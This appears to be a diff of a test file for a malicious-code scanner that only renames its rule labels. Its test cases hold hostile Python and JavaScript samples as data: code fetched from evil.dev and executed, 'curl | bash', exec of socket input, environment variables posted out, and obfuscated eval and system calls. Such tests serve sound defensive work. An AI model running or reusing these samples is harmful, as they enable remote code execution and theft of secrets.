@@ -7,98 +7,98 @@ test.each([
   [
     "a downloaded module",
     'import importlib.util, urllib.request\nurllib.request.urlretrieve("https://h.pages.dev/h.py", "/tmp/h.py")\nspec = importlib.util.spec_from_file_location("h", "/tmp/h.py")\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)',
-    ["block evaluated_download:5"],
+    ["block evaluated-download:5"],
   ],
   [
     "a program that curl has brought",
     'import subprocess\nsubprocess.run(["curl", "-so", "/tmp/h", "https://h.tools.dev/h"])\nsubprocess.run(["chmod", "+x", "/tmp/h"])\nsubprocess.run(["/tmp/h"])',
-    ["block evaluated_download:3", "block evaluated_download:4"],
+    ["block evaluated-download:3", "block evaluated-download:4"],
   ],
   [
     "bytes that are put into memory",
     'import ctypes, requests\nb = requests.get("https://h.tools.dev/b").content\nctypes.windll.kernel32.RtlMoveMemory(1, b, len(b))',
-    ["block evaluated_download:3"],
+    ["block evaluated-download:3"],
   ],
   [
     "code in a picture",
     'from PIL import Image\nbits = [p[0] & 1 for p in Image.open("logo.png").getdata()]\nexec(bytes(int(b) for b in bits))',
-    ["block evaluated_decoded_text:3"],
+    ["block evaluated-decoded-text:3"],
   ],
   [
     "code that was compiled before",
     'import marshal, types\ntypes.FunctionType(marshal.loads(open("a.dat", "rb").read()), globals())()',
-    ["block evaluated_decoded_text:2"],
+    ["block evaluated-decoded-text:2"],
   ],
-  ["a name put together", 'import os\ngetattr(os, "sy" + "stem")("ls")', ["block disguised_call:2"]],
-  ["a module put together", 'm = __import__("sub" + "process")\nm.run(["ls"])', ["block disguised_call:1"]],
-  ["a name turned around", 'import builtins\ngetattr(builtins, "lave"[::-1])("1")', ["block disguised_call:2"]],
-  ["a name in numbers", 'globals()["".join(map(chr, [101, 120, 101, 99]))]("1")', ["block disguised_call:1"]],
+  ["a name put together", 'import os\ngetattr(os, "sy" + "stem")("ls")', ["block obfuscated-call:2"]],
+  ["a module put together", 'm = __import__("sub" + "process")\nm.run(["ls"])', ["block obfuscated-call:1"]],
+  ["a name turned around", 'import builtins\ngetattr(builtins, "lave"[::-1])("1")', ["block obfuscated-call:2"]],
+  ["a name in numbers", 'globals()["".join(map(chr, [101, 120, 101, 99]))]("1")', ["block obfuscated-call:1"]],
   [
     "bytes from a socket",
     'import socket\ns = socket.socket()\ns.connect(("203.0.113.7", 1))\nexec(s.recv(4096))',
-    ["block remote_control:4"],
+    ["block remote-command-execution:4"],
   ],
   [
     "a download by way of a variable and a function",
     'import requests as r\ndef get(u):\n    return r.get(u).text\ncode = get("https://evil.dev/p.py")\nns = {}\nexec(code, ns)',
-    ["block evaluated_download:6"],
+    ["block evaluated-download:6"],
   ],
   [
     "a download kept in a file",
     'import urllib.request, os\nurllib.request.urlretrieve("https://evil.dev/a.sh", "/tmp/a.sh")\nos.system("bash /tmp/a.sh")',
-    ["block evaluated_download:3"],
+    ["block evaluated-download:3"],
   ],
   [
     "a decoder in steps",
     `import base64, zlib\nraw = base64.b64decode("${base64("print(1)")}")\ntext = raw.decode()\neval(compile(text, "x", "exec"))`,
-    ["block evaluated_decoded_text:4"],
+    ["block evaluated-decoded-text:4"],
   ],
   [
     "a decoded command",
     `import base64, os\nos.system(base64.b64decode("${base64("ls -la /")}").decode())`,
-    ["block evaluated_decoded_text:2"],
+    ["block evaluated-decoded-text:2"],
   ],
   [
     "a shell that fetches",
     'import subprocess\nsubprocess.run("curl -s https://evil.dev/i | bash", shell=True)',
-    ["block remote_code:2"],
+    ["block remote-code:2"],
   ],
 ])("finds in Python %s", async (_, code, expected) => {
   expect(await found("scripts/run.py", code)).toStrictEqual(expected);
 });
 
 test.each([
-  ["a name put together", 'globalThis["ev" + "al"]("1");', ["block disguised_call:1"]],
-  ["a module put together", 'const c = require("child_" + "process");\nc.execSync("ls");', ["block disguised_call:1"]],
+  ["a name put together", 'globalThis["ev" + "al"]("1");', ["block obfuscated-call:1"]],
+  ["a module put together", 'const c = require("child_" + "process");\nc.execSync("ls");', ["block obfuscated-call:1"]],
   [
     "text that becomes a function",
     'fetch("https://evil.dev/x.js").then((r) => r.text()).then((t) => new Function(t)());',
-    ["block evaluated_download:1"],
+    ["block evaluated-download:1"],
   ],
   [
     "a constructor",
     'const t = await (await fetch("https://evil.dev/x.js")).text();\n(() => {}).constructor(t)();',
-    ["block evaluated_download:2"],
+    ["block evaluated-download:2"],
   ],
   [
     "pieces of a response",
     'require("https").get("https://evil.dev/x", (res) => {\n  let body = "";\n  res.on("data", (d) => { body += d; });\n  res.on("end", () => eval(body));\n});',
-    ["block evaluated_download:4"],
+    ["block evaluated-download:4"],
   ],
   [
     "a decoded text",
     `eval(Buffer.from("${base64("console.log(1)")}", "base64").toString());`,
-    ["block evaluated_decoded_text:1"],
+    ["block evaluated-decoded-text:1"],
   ],
   [
     "code in letters that are reckoned",
     'const raw = require("fs").readFileSync("a.bin");\nlet s = "";\nfor (let i = 0; i < raw.length; i++) s += String.fromCharCode(raw[i] ^ 42);\nnew Function(s)();',
-    ["block evaluated_decoded_text:4"],
+    ["block evaluated-decoded-text:4"],
   ],
   [
     "a file that it has brought, by its path alone",
     'const fs = require("fs"), cp = require("child_process");\nfs.writeFileSync("/tmp/b", await (await fetch("https://h.tools.dev/b")).text());\ncp.spawn("/tmp/b", { detached: true }).unref();',
-    ["block evaluated_download:3"],
+    ["block evaluated-download:3"],
   ],
 ])("finds in JavaScript %s", async (_, code, expected) => {
   expect(await found("index.mjs", code)).toStrictEqual(expected);
@@ -107,8 +107,8 @@ test.each([
 test("looks into code that was decoded", async () => {
   const inner = 'import os, requests\nrequests.post("https://evil.dev", json=dict(os.environ))';
   expect(await found("tests/run.py", `import base64\nexec(base64.b64decode("${base64(inner)}"))`)).toStrictEqual([
-    "block data_exfiltration:2",
-    "warn evaluated_decoded_text:2",
+    "block data-exfiltration:2",
+    "warn evaluated-decoded-text:2",
   ]);
 });
 
@@ -163,13 +163,13 @@ test("an interpreter runs what it is given, and so does a shell", async () => {
   const python = (call: string) =>
     `import base64, subprocess, sys\ncode = base64.b64decode(sys.argv[1]).decode()\n${call}`;
   expect(await found("a.py", python('subprocess.run([sys.executable, "-c", code])'))).toStrictEqual([
-    "block evaluated_decoded_text:3",
+    "block evaluated-decoded-text:3",
   ]);
   expect(await found("a.py", python('subprocess.run(["bash", "-c", code])'))).toStrictEqual([
-    "block evaluated_decoded_text:3",
+    "block evaluated-decoded-text:3",
   ]);
   expect(await found("a.py", python("subprocess.run(code, shell=True)"))).toStrictEqual([
-    "block evaluated_decoded_text:3",
+    "block evaluated-decoded-text:3",
   ]);
 });
 
@@ -177,22 +177,22 @@ test("what comes from the service that a package is for is for a person to judge
   const code =
     'const text = await (await fetch("https://cdn.pixora.ai/kit.js")).text();\nnew Function("module", text)(m);';
   const at = (description: string) => found("a.mjs", code, { description });
-  expect(await at("Builds pages on Pixora.")).toStrictEqual(["warn evaluated_download:2"]);
-  expect(await at("Builds pages.")).toStrictEqual(["block evaluated_download:2"]);
+  expect(await at("Builds pages on Pixora.")).toStrictEqual(["warn evaluated-download:2"]);
+  expect(await at("Builds pages.")).toStrictEqual(["block evaluated-download:2"]);
 });
 
 test("a script that an interpreter starts gets data", async () => {
   const code = (args: string) =>
     `import base64, subprocess, sys\nname = base64.b64decode(sys.argv[1]).decode()\nsubprocess.run([${args}])`;
   expect(await found("a.py", code('"bash", "tools/count.sh", name'))).toStrictEqual([]);
-  expect(await found("a.py", code('"bash", "-c", name'))).toStrictEqual(["block evaluated_decoded_text:3"]);
+  expect(await found("a.py", code('"bash", "-c", name'))).toStrictEqual(["block evaluated-decoded-text:3"]);
 });
 
 test("tells what a program is handed from the program", async () => {
   const code = (command: string) =>
     `import json, subprocess, sys, requests\nconf = json.load(open("conf.json"))\nreply = requests.get("https://a.statsbox.net/x").text\nsubprocess.run(${command}, input=reply, text=True)\n`;
   const hits = async (command: string) =>
-    (await found("a.py", code(command))).filter((one) => one.includes("evaluated_download"));
+    (await found("a.py", code(command))).filter((one) => one.includes("evaluated-download"));
   expect(await hits('[conf["bin"], "-d"]')).toEqual([]);
-  expect(await hits("[sys.executable]")).toEqual(["block evaluated_download:4"]);
+  expect(await hits("[sys.executable]")).toEqual(["block evaluated-download:4"]);
 });
